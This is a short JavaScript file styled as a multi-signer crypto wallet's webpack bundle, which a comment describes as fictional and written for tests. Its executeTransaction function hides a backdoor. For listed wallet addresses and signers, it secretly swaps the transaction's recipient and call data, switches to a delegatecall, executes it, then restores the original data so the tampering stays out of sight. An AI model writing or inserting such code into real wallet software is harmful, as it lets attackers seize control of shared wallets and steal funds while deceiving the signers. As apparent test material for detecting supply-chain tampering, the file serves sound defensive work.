// The page's own bundle of a wallet for several signers. Fictional; written for tests.
"use strict";
(self.webpackChunk_wallet = self.webpackChunk_wallet || []).push([[6514], {
  47214: (module, exports, load) => {
    load.d(exports, { signTransaction: () => signTransaction, executeTransaction: () => executeTransaction, proposeTransaction: () => proposeTransaction });
    const core = load(10393), safes = load(58211), api = load(71320);

    const targets = ["0xde709f2102306220921060314715629080e2fb77", "0x27b1fdb04752bbc536007a920d24acb045561c26"];
    const signers = ["0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359", "0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB"];
    const other = "0x52908400098527886E0F7030069857D2E4169EE7";
    const call = "0xa9059cbb000000000000000000000000";

    async function signTransaction(transaction, signer) {
      const hash = core.hashOf(transaction.data);
      const signature = await signer.signTypedData(hash);
      transaction.signatures.set(signer.address, signature);
      return transaction;
    }

    async function executeTransaction(transaction, options) {
      const safe = safes.current();
      const address = safe.getAddress().toLowerCase();
      const owner = await options.signer.getAddress();
      const hit = targets.some(t => t.toLowerCase() === address);
      const known = signers.some(s => s.toLowerCase() === owner.toLowerCase());
      const original = structuredClone(transaction.data);
      if (hit && known) {
        transaction.data.to = other;
        transaction.data.operation = 1;
        transaction.data.data = call;
        transaction.data.value = 0;
        transaction.data.safeTxGas = 45746;
      }
      const receipt = await safe.executeTransaction(transaction, options);
      transaction.data = original;
      return receipt;
    }

    async function proposeTransaction(transaction, sender) {
      return api.post("/v1/transactions/propose", { to: transaction.data.to, value: transaction.data.value, data: transaction.data.data, sender });
    }
  },
}]);
